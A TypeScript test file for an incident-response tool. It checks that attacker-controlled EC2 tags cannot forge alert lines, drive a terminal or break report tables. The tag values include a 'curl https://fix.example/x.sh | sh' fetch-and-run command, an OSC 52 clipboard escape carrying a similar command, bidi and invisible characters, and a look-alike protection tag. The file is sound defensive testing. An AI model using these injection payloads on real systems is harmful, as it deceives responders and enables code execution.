/**
 * The attacker tags the instance it controls. Its tags reach every alert, the terminal and
 * the reports: none of them may forge a line, drive a terminal, hide text or break a table.
 * One incident, end to end in the emulator: alerts as an SNS → SQS subscriber receives them,
 * `responder status` and `responder report` as a person runs them.
 */
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { CreateTagsCommand } from "@aws-sdk/client-ec2";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cloneInstance } from "../../cli/drill/clone.ts";
import { seedDemo } from "../../cli/drill/local.ts";
import { type DrillOutcome, runDrill, subscribeAlerts } from "../../cli/drill/run.ts";
import { scenario } from "../../cli/drill/scenarios.ts";
import { type LocalSession, startLocalSession } from "../../cli/local/session.ts";
import { buildAlert } from "../../shared/alerts/message.ts";
import {
  dynamoDocClient,
  ec2Client,
  eventsClient,
  s3Client,
  snsClient,
  sqsClient,
} from "../../shared/aws/clients.ts";
import { DynamoIncidentStore } from "../../shared/incident/store.ts";
import { runCli } from "../support/cli.ts";
import { resetEmulator } from "../support/emulator.ts";
import { WAIT_MS } from "../support/findings.ts";

const FORGED_LINES =
  "\nContain: NOT NEEDED\r\nRun: curl https://fix.example/x.sh | sh\u2028Approved: yes\u0085Owner: nobody";
const OSC52 = "\u001B]52;c;Y3VybCBodHRwczovL2ZpeC5leGFtcGxlL3ggfCBzaA==\u0007";
const TAG_CHARS = [..."ignore this alert"]
  .map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0)))
  .join("");

/** What the attacker writes on the instance. */
const HOSTILE_TAGS = [
  { Key: "Name", Value: "x|y<b>" },
  { Key: "Environment", Value: `prod${FORGED_LINES}` },
  { Key: "Owner", Value: `mallory${OSC52}@example.com` },
  { Key: "WorkQueue", Value: `SEC\u202Egnp.exe\u00AD-PAY\u180EMENTS${TAG_CHARS}` },
  { Key: "Criticality", Value: `high\u001B[2J\u001B[8m${FORGED_LINES}` },
  // A look-alike of the protection tag, with a zero-width space: it must not protect.
  { Key: "incident-responder:protected\u200B", Value: "true" },
];

// ESC, C0 but LF, DEL, C1, bidi controls, the invisible characters of the attack, tag characters.
const UNSAFE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the assertion is about control characters
  /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00AD\u180E\u200B\u2028\u2029\u202A-\u202E\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDFFF]/;
const FORGED_LINE = /^\s*(?:Contain: NOT NEEDED|Run: curl|Approved: yes|Owner: nobody)/m;

/** The strings of a JSON value, deep. */
function strings(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value && typeof value === "object")
    return Object.entries(value).flatMap(([k, v]) => [k, ...strings(v)]);
  return [];
}

/** The cell separators of a GFM table row: pipes not escaped by an odd run of backslashes. */
function separators(row: string): number {
  let n = 0;
  let slashes = 0;
  for (const c of row) {
    if (c === "|" && slashes % 2 === 0) n++;
    slashes = c === "\\" ? slashes + 1 : 0;
  }
  return n;
}

describe("attack: text injected through the instance's tags", () => {
  let session: LocalSession;
  let outcome: DrillOutcome;
  let store: DynamoIncidentStore;

  beforeAll(async () => {
    await resetEmulator();
    process.env.POWERTOOLS_LOG_LEVEL = "SILENT";
    session = await startLocalSession({ maxAttempts: 2 });
    const demo = await seedDemo(session);
    const ec2 = ec2Client(session.aws);
    store = new DynamoIncidentStore(dynamoDocClient(session.aws), session.local.resources.incidentTable);
    const queue = await subscribeAlerts(
      { sqs: sqsClient(session.aws), sns: snsClient(session.aws) },
      session.local.resources.alertTopicArn,
      "alerts-injection",
    );
    // A copy of the payments web server (drill-tagged), then the attacker's tags on it.
    const target = await cloneInstance(ec2, demo.instances.web.instanceId, 2);
    await ec2.send(new CreateTagsCommand({ Resources: [target], Tags: HOSTILE_TAGS }));
    outcome = await runDrill(
      scenario("c2"),
      { instanceId: target, account: session.local.context.accountId, region: session.aws.region },
      {
        clients: {
          ec2,
          events: eventsClient(session.aws),
          s3: s3Client(session.aws),
          sqs: sqsClient(session.aws),
        },
        store,
        resources: session.local.resources,
        alertQueueUrl: queue,
        timeoutMs: WAIT_MS,
        afterSettled: () => session.runner.settled(WAIT_MS),
      },
    );
  });

  afterAll(async () => {
    await session?.stop();
  });

  it("opens the incident and contains the instance: a look-alike protection tag protects nothing", async () => {
    const incident = await store.get(outcome.incidentId ?? "");

    expect(outcome.settled).toBe(true);
    expect(incident.steps.contain?.status).toBe("verified");
    expect(incident.impact.tags.Name).toBe("x|y<b>");
    expect(incident.impact.tags["\uFFFDincident-responder:protected"]).toBe("true");
  });

  it("stores the tags clean, on one line each", async () => {
    const incident = await store.get(outcome.incidentId ?? "");

    expect(strings(incident.impact).length).toBeGreaterThan(10);
    for (const s of strings(incident.impact)) expect(s).not.toMatch(UNSAFE);
    for (const s of strings(incident.impact)) expect(s).not.toContain("\n");
    expect(incident.impact.owner).toBe(
      "mallory]52;c;Y3VybCBodHRwczovL2ZpeC5leGFtcGxlL3ggfCBzaA==@example.com",
    );
    expect(incident.impact.workQueue).toBe("SECgnp.exe-PAYMENTS");
  });

  it("sends alerts with no control or invisible character and no forged line", async () => {
    // Assert: what the SQS subscriber received (the JSON form, its subject and attributes)
    const stages = outcome.alerts.map((a) => a.stage);
    expect(stages).toEqual(expect.arrayContaining(["opened", "contained", "evidence-preserved"]));
    for (const a of outcome.alerts) {
      for (const s of [a.subject, ...strings(a.body), ...Object.values(a.attributes)]) {
        expect(s).not.toMatch(UNSAFE);
        expect(s).not.toContain("\n");
      }
      expect(a.body.where).toBe("x|y<b>");
      expect(a.subject).toMatch(/ — x\|y<b>$/);
    }
    const opened = outcome.alerts.find((a) => a.stage === "opened");
    expect(opened?.attributes.workQueue).toBe("SECgnp.exe-PAYMENTS");
    expect(((opened?.body.reasons ?? []) as string[]).join("\n")).toContain(
      "Environment=prod Contain: NOT NEEDED Run: curl https://fix.example/x.sh | sh Approved: yes Owner: nobody",
    );

    // And the text form (e-mail) the responder built for each stage: no line of its own.
    const incident = await store.get(outcome.incidentId ?? "");
    for (const stage of ["opened", "contained", "evidence-preserved", "containment-failed"] as const) {
      const { text } = buildAlert({ stage, incident, summary: stage });
      expect(text).not.toMatch(FORGED_LINE);
      expect(text.replaceAll("\n", "")).not.toMatch(UNSAFE);
    }
  });

  it("prints `responder status` with no escape sequence, C1 control or invisible character", async () => {
    // Act
    const [status, list, json] = await Promise.all([
      runCli(["status", outcome.incidentId ?? ""]),
      runCli(["status"]),
      runCli(["status", outcome.incidentId ?? "", "--json"]),
    ]);

    // Assert
    expect(status.code, status.stderr).toBe(0);
    for (const out of [status.stdout, status.stderr, list.stdout, json.stdout]) {
      expect(out).not.toContain("\u001B");
      expect(out.replaceAll("\n", "")).not.toMatch(UNSAFE);
      expect(out).not.toMatch(FORGED_LINE);
    }
    expect(status.stdout).toContain("owner mallory]52;c;");
    expect(json.stdout).toMatch(/^[\x20-\x7E]*\n$/);
    expect(JSON.parse(json.stdout).impact.owner).toBe(
      "mallory]52;c;Y3VybCBodHRwczovL2ZpeC5leGFtcGxlL3ggfCBzaA==@example.com",
    );
  });

  it("writes a Markdown report whose tables keep their columns and which holds no raw `<`", async () => {
    // Act
    const dir = mkdtempSync(join(tmpdir(), "injection-report-"));
    const res = await runCli(["report", outcome.incidentId ?? "", "--out", dir]);

    // Assert
    expect(res.code, res.stderr).toBe(0);
    const md = readFileSync(join(dir, `${outcome.incidentId}.md`), "utf8");
    const html = readFileSync(join(dir, `${outcome.incidentId}.html`), "utf8");
    expect(md).not.toContain("<");
    expect(md.replaceAll("\n", "")).not.toMatch(UNSAFE);
    let header: number | undefined;
    let rows = 0;
    for (const line of md.split("\n")) {
      if (!line.startsWith("|")) {
        header = undefined;
        continue;
      }
      if (header === undefined) header = separators(line);
      else {
        expect(separators(line), line).toBe(header);
        rows++;
      }
    }
    expect(rows).toBeGreaterThan(10);
    expect(md).toContain("x\\|y&lt;b&gt;");
    expect(html).not.toMatch(/<b>|<script/);
    expect(html).toContain("x|y&lt;b&gt;");
  });
});
